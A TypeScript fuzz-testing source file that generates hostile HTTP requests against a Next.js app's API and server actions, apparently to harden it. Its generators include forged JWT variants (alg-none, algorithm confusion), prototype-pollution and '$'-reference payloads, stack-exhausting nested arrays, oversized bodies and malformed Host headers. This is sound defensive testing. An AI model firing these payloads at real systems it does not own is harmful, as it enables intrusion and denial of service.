function tokenArb(): fc.Arbitrary<TokenKind> {
  return fc.oneof(
    { weight: 14, arbitrary: fc.constant<TokenKind>("valid") },
    { weight: 2, arbitrary: fc.constant<TokenKind>("absent") },
    {
      weight: 10,
      arbitrary: fc.constantFrom<TokenKind>(
        "alg-none",
        "wrong-key",
        "tampered",
        "expired",
        "wrong-alg",
        "no-typ",
        "no-exp",
        "refresh-typ",
        "alg-confusion",
        "garbage",
        "basic",
        "malformed",
      ),
    },
  );
}

/** JSON whose strings cannot be read as React's "$" references (a literal "$" is escaped as "$$"). */
const plainReplyJson = fc
  .jsonValue({ maxDepth: 3 })
  .map((v) => JSON.stringify(v, (_k, x) => (typeof x === "string" && x.startsWith("$") ? `$${x}` : x)));

/**
 * The UI's server actions, with their real ids: forms posted without JavaScript (multipart with the rendered
 * hidden fields, some corrupted) and fetch actions (Next-Action header). Same-origin or without Origin, so
 * that they pass the CSRF check. Their payloads are well-formed React replies (any JSON, FormData references)
 * carrying hostile values and argument shapes. Payloads React cannot decode are hostileActionArb's.
 */
function serverActionArb(ctx: FuzzContext): fc.Arbitrary<Spec> {
  const action = fc.constantFrom(...ctx.actions);
  const field = fc.oneof(nastyString, fc.constantFrom("correct horse battery", "a@example.com", ""));
  const mpa = fc
    .record({
      action,
      corrupt: fc.constantFrom("none", "none", "bad-json", "unknown-id", "no-key", "no-ref", "bound-values"),
      bound: plainReplyJson,
      email: field,
      password: field,
      confirm: field,
      boundary: fc.constantFrom("----fuzzaction", "x"),
      broken: fc.constantFrom("none", "none", "none", "no-end"),
    })
    .map(({ action: a, corrupt, bound, email, password, confirm, boundary, broken }): Spec => {
      const fields = a.fields
        .filter(
          ([n]) =>
            !(corrupt === "no-key" && n === "$ACTION_KEY") && !(corrupt === "no-ref" && n.startsWith("$ACTION_REF")),
        )
        .map(([n, v]): [string, string] => {
          if (!/^\$ACTION_\d+:0$/.test(n))
            return [n, /^\$ACTION_\d+:1$/.test(n) && corrupt === "bound-values" ? `[${bound}]` : v];
          if (corrupt === "bad-json") return [n, v.slice(0, v.length / 2)];
          if (corrupt === "unknown-id") return [n, v.replace(a.id, "7f".repeat(21))];
          return [n, v];
        });
      const all: [string, string][] = [...fields, ["email", email], ["password", password], ["confirm", confirm]];
      const body =
        all.map(([n, v]) => `--${boundary}\r\nContent-Disposition: form-data; name="${n}"\r\n\r\n${v}\r\n`).join("") +
        (broken === "no-end" ? "" : `--${boundary}--\r\n`);
      return {
        endpoint: "server actions",
        method: "POST",
        target: a.path,
        token: "absent",
        authHeader: null,
        headers: [["Content-Type", `multipart/form-data; boundary=${boundary}`]],
        body: { text: body },
      };
    });
  // The root is the argument list: an array (anything else makes Next.js itself fail to apply the action).
  const replyBody = fc.oneof(
    fc.constantFrom(
      '[{"ok":false},"$K1"]',
      '["$K1"]',
      '["$K1","$K1"]',
      '[null,"$K1"]',
      "[]",
      '["$undefined"]',
      '[{"ok":false}]',
    ),
    fc.array(plainReplyJson, { maxLength: 4 }).map((xs) => `[${xs.join(",")}]`),
    plainReplyJson.map((x) => `[{"ok":false},${x}]`),
  );
  const fetchAction = fc
    .record({
      action,
      kind: fc.constantFrom("text", "text", "multipart", "multipart-broken", "json", "form"),
      reply: replyBody,
      email: field,
      password: field,
      headers: fc.array(
        fc.constantFrom<[string, string]>(
          ["RSC", "1"],
          ["Next-Router-State-Tree", "%5B%22%22%2C%7B%7D%5D"],
          ["Next-Router-State-Tree", "not json"],
          ["Accept", "text/x-component"],
        ),
        { maxLength: 2 },
      ),
    })
    .map(({ action: a, kind, reply, email, password, headers }): Spec => {
      let type = "text/plain;charset=UTF-8";
      let body = reply;
      if (kind.startsWith("multipart")) {
        type = "multipart/form-data; boundary=fa";
        body =
          `--fa\r\nContent-Disposition: form-data; name="_1_email"\r\n\r\n${email}\r\n` +
          `--fa\r\nContent-Disposition: form-data; name="_1_password"\r\n\r\n${password}\r\n` +
          `--fa\r\nContent-Disposition: form-data; name="0"\r\n\r\n${reply}\r\n` +
          (kind === "multipart-broken" ? "--fa\r\nContent-Disp" : "--fa--\r\n");
      } else if (kind === "json") type = "application/json";
      else if (kind === "form") type = "application/x-www-form-urlencoded";
      return {
        endpoint: "server actions",
        method: "POST",
        target: a.path,
        token: "absent",
        authHeader: null,
        headers: [["Next-Action", a.id], ["Content-Type", type], ...headers],
        body: { text: body },
      };
    });
  return fc.oneof(
    { weight: 2, arbitrary: mpa },
    { weight: 2, arbitrary: fetchAction },
    { weight: 3, arbitrary: hostileActionArb(ctx) },
  );
}

/** A reply nested `depth` levels deep (React's decoder recursed into it until the stack overflowed). */
const deepReply = (depth: number) => `${"[".repeat(depth)}${"]".repeat(depth)}`;

/**
 * Server-action bodies React's decoder cannot take, which Next.js answered with a 500: not JSON, not UTF-8,
 * not an argument list, nested thousands deep, hostile "$" references, over the 1 MiB limit; as text, as a
 * multipart fetch action or as a form posted without JavaScript; sent with a Content-Length or chunked.
 */
function hostileActionArb(ctx: FuzzContext): fc.Arbitrary<Spec> {
  const reply: fc.Arbitrary<BodySpec> = fc.oneof(
    fc.integer({ min: 60, max: 60_000 }).map((n) => ({ text: `[${deepReply(n)}]` })),
    fc.integer({ min: 60, max: 60_000 }).map((n) => ({ text: `[{"ok":false},${'{"a":'.repeat(n)}1${"}".repeat(n)}]` })),
    fc
      .constantFrom(
        "",
        "[",
        "[{",
        '[{"ok":false},',
        "not json",
        "[1,]",
        '["\\ud800"]',
        '{"ok":false}',
        '"$K1"',
        "1",
        "null",
        `[${"0,".repeat(1000)}0]`,
      )
      .map((text) => ({ text })),
    fc
      .constantFrom(
        '["$Q1"]',
        '["$@1"]',
        '["$F1"]',
        '["$T"]',
        '["$h1"]',
        '["$W1"]',
        '["$B1"]',
        '["$n"]',
        '["$D"]',
        '["$1:a:b"]',
        '["$Infinity"]',
        '["$-0"]',
        '["$S"]',
        '["$R1"]',
        '["$r1"]',
        '["$X1"]',
        '["$x1"]',
        '["$i1"]',
        '["$l1"]',
        '["$A1"]',
        '["$O1"]',
        '["$o1"]',
        '["$U1"]',
        '["$u1"]',
        '["$G1"]',
        '["$g1"]',
        '["$M1"]',
        '["$m1"]',
        '["$V1"]',
        '["$Z"]',
        '["$0"]',
        '["$ffffffff"]',
        '[{"ok":false},"$K"]',
        '[{"ok":false},"$Kzz"]',
        '["$", "$$", "$$$"]',
        '[{"__proto__":{"x":1}},"$K1"]',
        '[{"then":"$1"}]',
        '[{"$$typeof":"$1"}]',
      )
      .map((text) => ({ text })),
    fc
      .string({ unit: "binary", maxLength: 100 })
      .map((s) => ({ latin1: `[\"${Buffer.from(s, "utf8").toString("latin1")}\xff\xfe\xc0\xaf"]` })),
    fc
      .integer({ min: 1024 * 1024 - 16, max: 1024 * 1024 + 70_000 })
      .map((n) => ({ prefix: '["', repeat: "a", times: n, suffix: '"]' })),
  );
  const part = (name: string, value: string) =>
    `--hostile\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
  const asText = (b: BodySpec): string => ("text" in b ? b.text : "latin1" in b ? b.latin1 : "[]");
  return fc
    .record({
      action: fc.constantFrom(...ctx.actions),
      form: fc.constantFrom("text", "text", "multipart", "mpa"),
      reply,
      chunked: fc.boolean(),
    })
    .map(({ action: a, form, reply: r, chunked }): Spec => {
      let body: BodySpec = r;
      let headers: [string, string][] = [
        ["Next-Action", a.id],
        ["Content-Type", "text/plain;charset=UTF-8"],
      ];
      if (form === "multipart") {
        body = {
          text: `${part("_1_email", "a@example.com")}${part("_1_password", "x")}${part("0", asText(r))}--hostile--\r\n`,
        };
        headers = [
          ["Next-Action", a.id],
          ["Content-Type", "multipart/form-data; boundary=hostile"],
        ];
      } else if (form === "mpa") {
        // The rendered form, its bound arguments (the previous state) replaced.
        const fields = a.fields.map(([n, v]) => part(n, /^\$ACTION_\d+:1$/.test(n) ? asText(r) : v)).join("");
        body = { text: `${fields}${part("email", "a@example.com")}${part("password", "x")}--hostile--\r\n` };
        headers = [["Content-Type", "multipart/form-data; boundary=hostile"]];
      }
      return {
        endpoint: "server actions (hostile)",
        method: "POST",
        target: a.path,
        token: "absent",
        authHeader: null,
        headers,
        body,
        chunked,
      };
    });
}

/** Every generated request: an endpoint, a method, a token, maybe a body and some hostile headers. */
export function requestArb(ctx: FuzzContext): fc.Arbitrary<Spec> {
  return fc.oneof(
    { weight: 24, arbitrary: httpRequestArb(ctx) },
    ...(ctx.actions.length ? [{ weight: 1, arbitrary: serverActionArb(ctx) }] : []),
  );
}

function httpRequestArb(ctx: FuzzContext): fc.Arbitrary<Spec> {
  const all = shapes(ctx);
  const weights: Record<string, number> = {
    "/register": 2,
    "/login": 3,
    ui: 3,
    operations: 2,
    "other paths": 3,
    "GET /notes (huge)": 3,
  };
  return fc
    .oneof(...all.map((shape) => ({ weight: weights[shape.endpoint] ?? 6, arbitrary: fc.constant(shape) })))
    .chain((shape) =>
      fc.record({
        shape: fc.constant(shape),
        target: shape.target,
        method: fc.oneof(
          { weight: 6, arbitrary: fc.constantFrom(...shape.methods) },
          { weight: 1, arbitrary: METHODS },
        ),
        token: tokenArb(),
        bodyKind: fc.constantFrom("json", "json", "json", "form", "multipart", "none", "wrong-type"),
        json: jsonFieldsArb(shape.fields),
        form: formBodyArb(shape.fields),
        multipart: multipartArb(shape.fields, ctx.maxUploadBytes),
        contentType: fc.constantFrom(...CONTENT_TYPES),
        headers: fc.array(EXTRA_HEADERS, { maxLength: 3 }),
        chunked: fc.oneof({ weight: 4, arbitrary: fc.constant(false) }, { weight: 1, arbitrary: fc.constant(true) }),
        host: fc.oneof(
          { weight: 12, arbitrary: fc.constant(null) },
          {
            weight: 1,
            arbitrary: fc.constantFrom(
              "evil.example",
              "",
              "[::1]:99999",
              "a b",
              "localhost:0",
              "127.0.0.1:1/../",
              "xn--",
              "%00",
              "[",
              "a".repeat(300),
              "[::1]",
              "LOCALHOST:3000",
              "127.0.0.1:00080",
              "a@b",
            ),
          },
        ),
        version: fc.constantFrom(
          "1.1",
          "1.1",
          "1.1",
          "1.1",
          "1.1",
          "1.1",
          "1.1",
          "1.1",
          "1.1",
          "1.1",
          "1.1",
          "1.0",
          "1.0 without Host",
          "1.1 without Host",
        ),
      }),
    )
    .map((r): Spec => {
      const headers: [string, string][] = [...r.headers];
      let body: BodySpec | undefined;
      const methodHasBody = !["GET", "HEAD", "OPTIONS", "TRACE"].includes(r.method);
      if (methodHasBody || r.bodyKind === "wrong-type") {
        switch (r.bodyKind) {
          case "json":
            headers.push(["Content-Type", r.contentType.includes("json") ? r.contentType : "application/json"]);
            body = r.json;
            break;
          case "form":
            headers.push(["Content-Type", "application/x-www-form-urlencoded"]);
            body = r.form;
            break;
          case "multipart":
            headers.push(["Content-Type", r.multipart.typeHeader]);
            body = r.multipart.body;
            break;
          case "wrong-type":
            headers.push(["Content-Type", r.contentType]);
            body = r.json;
            break;
        }
      }
      if (r.host !== null) headers.unshift(["Host", r.host]);
      // The pages see B's browser session when the request carries B's token (the API ignores cookies).
      if (r.shape.endpoint === "ui" && r.token === "valid") headers.push(["Cookie", ctx.sessionCookie]);
      return {
        endpoint: r.shape.endpoint,
        method: r.method,
        target: r.target,
        token: r.token,
        authHeader: ctx.tokens[r.token],
        headers,
        body,
        // An oversized form is sent chunked (as in the issue): no Content-Length to refuse it by.
        chunked: body !== undefined && (r.chunked || "fieldBytes" in body) && r.version !== "1.0",
        noHost: r.version.endsWith("without Host"),
        http10: r.version.startsWith("1.0"),
      };
    });
}
